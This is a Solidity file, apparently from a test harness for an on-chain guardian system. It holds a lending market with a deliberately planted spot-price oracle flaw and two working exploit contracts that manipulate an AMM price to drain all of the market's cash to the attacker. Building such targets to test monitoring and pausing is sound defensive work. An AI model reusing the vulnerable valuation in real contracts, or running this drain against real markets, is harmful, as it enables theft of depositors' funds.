// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

import {AccessControl} from "@openzeppelin/contracts/access/AccessControl.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";
import {Pausable} from "@openzeppelin/contracts/utils/Pausable.sol";
import {ReentrancyGuard} from "@openzeppelin/contracts/utils/ReentrancyGuard.sol";

/// @notice A price source: the AMM's instantaneous price of the collateral in the debt token (18
/// decimals). DemoAMM.spotPrice() answers it.
interface ISpotPriceSource {
    function spotPrice() external view returns (uint256);
}

/// @title OZLendingMarket
/// @notice A small lending market written the way an existing protocol is: stock OpenZeppelin 5
/// (AccessControl, Pausable, ReentrancyGuard, SafeERC20), no Guardable. Lenders deposit the debt
/// token; borrowers post the collateral token and borrow up to 75% of its value, with no
/// per-transaction limit. It integrates with the guardians through the selector hook
/// (docs/integrate.md): the oracle holds PAUSER_ROLE and contains by calling `pause()`; the
/// team's governance (DEFAULT_ADMIN_ROLE) unpauses.
///
/// THE PLANTED VULNERABILITY: collateral is valued at the AMM's spot price, which anyone can move
/// inside one transaction; one `borrow` against inflated collateral takes all the cash.
///
/// `isSolvent()` is the invariant the guardians watch (debt covered by collateral at the
/// governance's reference price and the 80% liquidation threshold); `claimOf` is the claims view
/// (registered as the invariant entry whose calldata is its selector, 0x06b6bf55).
contract OZLendingMarket is AccessControl, Pausable, ReentrancyGuard {
    using SafeERC20 for IERC20;

    bytes32 public constant PAUSER_ROLE = keccak256("PAUSER_ROLE");
    uint256 public constant LTV_BPS = 7_500;
    uint256 public constant LIQUIDATION_THRESHOLD_BPS = 8_000;

    IERC20 public immutable collateralToken;
    IERC20 public immutable debtToken;
    ISpotPriceSource public immutable priceSource;
    uint256 public referencePrice;

    uint256 public totalDeposits;
    uint256 public totalDebt;
    uint256 public totalCollateral;
    mapping(address => uint256) public deposits;
    mapping(address => uint256) public collateral;
    mapping(address => uint256) public debt;

    event Deposited(address indexed lender, uint256 amount);
    event Withdrawn(address indexed lender, uint256 amount);
    event CollateralPosted(address indexed borrower, uint256 amount);
    event CollateralWithdrawn(address indexed borrower, uint256 amount);
    event Borrowed(address indexed borrower, uint256 amount);
    event Repaid(address indexed borrower, uint256 amount);

    error Undercollateralized(uint256 debt, uint256 capacity);

    constructor(IERC20 collateral_, IERC20 debt_, ISpotPriceSource priceSource_, address admin) {
        collateralToken = collateral_;
        debtToken = debt_;
        priceSource = priceSource_;
        referencePrice = priceSource_.spotPrice();
        _grantRole(DEFAULT_ADMIN_ROLE, admin);
    }

    function pause() external onlyRole(PAUSER_ROLE) {
        _pause();
    }

    function unpause() external onlyRole(DEFAULT_ADMIN_ROLE) {
        _unpause();
    }

    /// @notice Governance's manipulation-resistant price (a TWAP keeper in production).
    function setReferencePrice(uint256 price) external onlyRole(DEFAULT_ADMIN_ROLE) {
        referencePrice = price;
    }

    function deposit(uint256 amount) external whenNotPaused nonReentrant {
        debtToken.safeTransferFrom(msg.sender, address(this), amount);
        deposits[msg.sender] += amount;
        totalDeposits += amount;
        emit Deposited(msg.sender, amount);
    }

    function withdraw(uint256 amount) external whenNotPaused nonReentrant {
        deposits[msg.sender] -= amount;
        totalDeposits -= amount;
        debtToken.safeTransfer(msg.sender, amount);
        emit Withdrawn(msg.sender, amount);
    }

    function postCollateral(uint256 amount) external whenNotPaused nonReentrant {
        collateralToken.safeTransferFrom(msg.sender, address(this), amount);
        collateral[msg.sender] += amount;
        totalCollateral += amount;
        emit CollateralPosted(msg.sender, amount);
    }

    function withdrawCollateral(uint256 amount) external whenNotPaused nonReentrant {
        collateral[msg.sender] -= amount;
        totalCollateral -= amount;
        _requireCovered(msg.sender);
        collateralToken.safeTransfer(msg.sender, amount);
        emit CollateralWithdrawn(msg.sender, amount);
    }

    /// @notice Borrow against posted collateral, valued AT THE AMM SPOT PRICE (the bug).
    function borrow(uint256 amount) external whenNotPaused nonReentrant {
        debt[msg.sender] += amount;
        totalDebt += amount;
        _requireCovered(msg.sender);
        debtToken.safeTransfer(msg.sender, amount);
        emit Borrowed(msg.sender, amount);
    }

    function repay(uint256 amount) external nonReentrant {
        debtToken.safeTransferFrom(msg.sender, address(this), amount);
        debt[msg.sender] -= amount;
        totalDebt -= amount;
        emit Repaid(msg.sender, amount);
    }

    function borrowCapacity(address borrower) public view returns (uint256) {
        return (collateral[borrower] * priceSource.spotPrice() * LTV_BPS) / 1e18 / 10_000;
    }

    /// @notice The debt token the market holds: what a borrower can take.
    function cash() external view returns (uint256) {
        return debtToken.balanceOf(address(this));
    }

    /// @notice The invariant: total debt covered by total collateral at the reference price and
    /// the liquidation threshold.
    function isSolvent() external view returns (bool) {
        return totalDebt * 10_000 <= (totalCollateral * referencePrice * LIQUIDATION_THRESHOLD_BPS) / 1e18;
    }

    /// @notice The claims view: how much of `token` `account` may rightfully take out now (debt
    /// token: its deposit plus its unused borrowing power; collateral: what its debt does not
    /// need). Read at the block before a transaction, so a price moved inside it does not count.
    function claimOf(address account, address token) external view returns (uint256) {
        uint256 owed = debt[account];
        uint256 capacity = borrowCapacity(account);
        if (token == address(debtToken)) return deposits[account] + (capacity > owed ? capacity - owed : 0);
        if (token != address(collateralToken)) return 0;
        if (owed == 0) return collateral[account];
        if (capacity <= owed) return 0;
        return (collateral[account] * (capacity - owed)) / capacity;
    }

    function _requireCovered(address borrower) private view {
        uint256 capacity = borrowCapacity(borrower);
        if (debt[borrower] > capacity) revert Undercollateralized(debt[borrower], capacity);
    }
}

interface ISwapExactIn {
    function swapExactIn(address tokenIn, uint256 amountIn, uint256 minOut) external returns (uint256);
}

/// @notice The whole attack, shared by both exploits.
abstract contract MarketDrainer {
    /// @dev From this contract's capital (the debt token it holds): buy collateral on the AMM `a`
    /// (the spot price rises), post just enough of it to borrow all of `m`'s cash at the inflated
    /// price, sell the rest back, send the debt token to `to`.
    function _drain(OZLendingMarket m, ISwapExactIn a, address to) internal {
        IERC20 usd = m.debtToken();
        IERC20 weth = m.collateralToken();
        usd.approve(address(a), type(uint256).max);
        weth.approve(address(a), type(uint256).max);
        weth.approve(address(m), type(uint256).max);
        uint256 bought = a.swapExactIn(address(usd), usd.balanceOf(address(this)), 0);
        uint256 take = m.cash();
        uint256 price = m.priceSource().spotPrice();
        uint256 needed = (take * 1e18 * 10_000) / (price * m.LTV_BPS()) + 1;
        m.postCollateral(needed);
        m.borrow(take);
        a.swapExactIn(address(weth), bought - needed, 0);
        usd.transfer(to, usd.balanceOf(address(this)));
    }
}

/// @title OZMarketExploit
/// @notice The two-step attack on OZLendingMarket: deployed first (its capital waiting at its
/// address, as a flash loan would provide it), then called once. `attack` buys collateral on the
/// AMM with the capital (the spot price rises), posts just enough of it to borrow all the market's
/// cash at the inflated price, sells the rest back and sends everything to its owner.
contract OZMarketExploit is MarketDrainer {
    address public immutable owner;
    OZLendingMarket public immutable market;
    ISwapExactIn public immutable amm;

    error NotOwner();

    constructor(OZLendingMarket market_, ISwapExactIn amm_) {
        owner = msg.sender;
        market = market_;
        amm = amm_;
    }

    function attack() external {
        if (msg.sender != owner) revert NotOwner();
        _drain(market, amm, owner);
    }
}

/// @title OZMarketOneShot
/// @notice The same attack in one transaction: the constructor does all of it (deploy and drain
/// at once), so there is nothing to call afterwards and nothing left to probe (the runtime code
/// is solc's 8-byte stub). Only the pending path, which simulates the creation before it is
/// mined, can contain it. Written lean (the tokens passed in, no shared helper) so that its
/// signed creation fits the 2,048 bytes a pending report may carry (protocol/pending.py).
contract OZMarketOneShot {
    constructor(OZLendingMarket m, ISwapExactIn a, IERC20 usd, IERC20 weth) {
        usd.approve(address(a), type(uint256).max);
        weth.approve(address(a), type(uint256).max);
        weth.approve(address(m), type(uint256).max);
        uint256 bought = a.swapExactIn(address(usd), usd.balanceOf(address(this)), 0);
        uint256 take = usd.balanceOf(address(m));
        uint256 needed = (take * 1e18 * 10_000) / (ISpotPriceSource(address(a)).spotPrice() * 7_500) + 1;
        m.postCollateral(needed);
        m.borrow(take);
        a.swapExactIn(address(weth), bought - needed, 0);
        usd.transfer(msg.sender, usd.balanceOf(address(this)));
    }
}
